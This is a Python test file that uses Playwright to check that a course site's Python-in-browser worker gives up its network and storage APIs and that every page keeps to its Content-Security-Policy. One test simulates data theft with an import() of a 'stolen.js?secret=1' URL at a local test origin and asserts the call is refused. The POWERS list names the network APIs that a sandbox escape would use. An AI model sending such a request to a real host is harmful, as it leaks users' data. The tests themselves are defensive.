"""Defence in depth against learner code that reaches the worker's JavaScript:
the worker drops its network and storage powers once Python is up, and every page
(and the worker, where the host sends `_headers`) runs under a Content-Security-Policy
that no page of the course violates."""

import re

import pytest
from playwright.sync_api import expect

from course_build.headers import header_rules
from tools.site_server import serve

from .conftest import wait_for_python, watch
from .helpers import CSP_VIOLATIONS, LEVEL, check, open_skip_test, other_origin, python_boot, worker_policy_warnings
from .pages import Exercise

POWERS = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "caches", "indexedDB",
          "importScripts", "Worker", "SharedWorker", "BroadcastChannel", "FontFace"]


def strict_context(browser, **options):
    """A context that enforces the CSP and reports every violation."""
    context = browser.new_context(**{"service_workers": "block", "bypass_csp": False, **options})
    context.add_init_script(CSP_VIOLATIONS)
    return context


def new_page(context):
    page = context.new_page()
    page.errors = watch(page)
    page.worker_violations = worker_policy_warnings(page)
    return page


def python_worker(page):
    wait_for_python(page)
    for worker in page.workers:
        if re.search(r"/assets/course/worker\.[^/]*\.js$", worker.url):
            return worker
    raise AssertionError(f"no Python worker among {[w.url for w in page.workers]}")


@pytest.fixture(scope="module")
def listener(tmp_path_factory):
    server, origin, hits = other_origin(tmp_path_factory.mktemp("other-origin"))
    yield origin, hits
    server.shutdown()


@pytest.fixture(scope="module")
def built(built_site):
    """The site served twice: with its `_headers` (as Netlify or Cloudflare Pages
    would) and with no headers at all (a host that ignores that file)."""
    directory = built_site
    server, port = serve(directory)
    plain, plain_port = serve(directory, headers=False)
    yield {"directory": directory, "headers": f"http://127.0.0.1:{port}", "plain": f"http://127.0.0.1:{plain_port}"}
    server.shutdown()
    plain.shutdown()


def pages_of(directory):
    return sorted("/" + p.relative_to(directory).as_posix().removesuffix("index.html")
                  for p in directory.rglob("*.html") if p.name in ("index.html", "404.html"))


def test_the_worker_drops_its_powers_once_python_is_up(browser, built, listener):
    origin, hits = listener
    context = strict_context(browser)
    page = new_page(context)
    page.goto(built["headers"] + LEVEL)
    assert python_boot(page)["kept"] == []
    worker = python_worker(page)
    left = worker.evaluate(f"""() => {{
        const names = {POWERS!r};
        const left = names.filter((n) => n in self);
        for (const n of ["storage", "locks", "serviceWorker"]) if (n in navigator) left.push("navigator." + n);
        return left;
    }}""")
    assert left == []
    # what is left to reach another origin: import(), which the worker's CSP (from `_headers`) refuses
    outcome = worker.evaluate(f"import({origin + '/stolen.js?secret=1'!r}).then(() => 'loaded', (e) => 'refused')")
    assert outcome == "refused"
    assert hits == []
    expect(Exercise(page, "quiz-sub-backward").check()).not_to_contain_text("Python could not start")  # still works
    assert page.worker_violations, "the refused import() was not reported"
    assert page.errors == []
    context.close()


def test_the_headers_set_a_policy_for_every_path(built):
    headers = header_rules(built["directory"])
    assert any(pattern == "/*" and any(n == "Content-Security-Policy" for n, _ in h) for pattern, h in headers)


def test_no_page_violates_the_policy_of_its_meta_tag(browser, built):
    """A host that ignores `_headers`: the policy in each page's own meta tag is all there
    is (test_every_page.py reads every page under the headers' policy)."""
    context = strict_context(browser)
    page = new_page(context)
    checked = 0
    for path in pages_of(built["directory"]):
        page.goto(built["plain"] + path)
        assert page.locator('meta[http-equiv="Content-Security-Policy"]').count() == 1, path
        open_skip_test(page)  # its exercises are open on a first visit, the level's are locked
        exercises = page.locator(".course-exercise:visible")
        if exercises.count():
            wait_for_python(page)
            result = check(exercises.first, timeout=60_000)
            expect(result).not_to_contain_text("Python could not start")
            checked += 1
        elif page.locator(".course-lab").count():
            wait_for_python(page)
        page.wait_for_timeout(300)
        violations = page.evaluate("window.__cspViolations")
        assert violations == [] and page.worker_violations == [], f"{path}: {violations} {page.worker_violations}"
    assert checked >= 2
    assert page.errors == [], page.errors
    context.close()


@pytest.mark.parametrize("served", ["headers", "plain"])
def test_instant_navigation_keeps_to_the_policy(browser, built, served):
    """Material's instant navigation runs the next page's inline scripts under the first
    page's policy."""
    context = strict_context(browser)
    page = new_page(context)
    page.goto(built[served] + "/")
    page.locator('.course-map a[data-level="autograd"]').click()
    page.wait_for_url(re.compile(r"/autograd/$"))
    expect(page.locator(".course-quiz__toggle")).to_be_visible()  # the page's scripts ran
    open_skip_test(page)
    expect(page.locator(".course-exercise").first).to_be_visible()
    page.wait_for_timeout(500)
    assert page.evaluate("window.__cspViolations") == []
    assert page.errors == [], page.errors
    context.close()
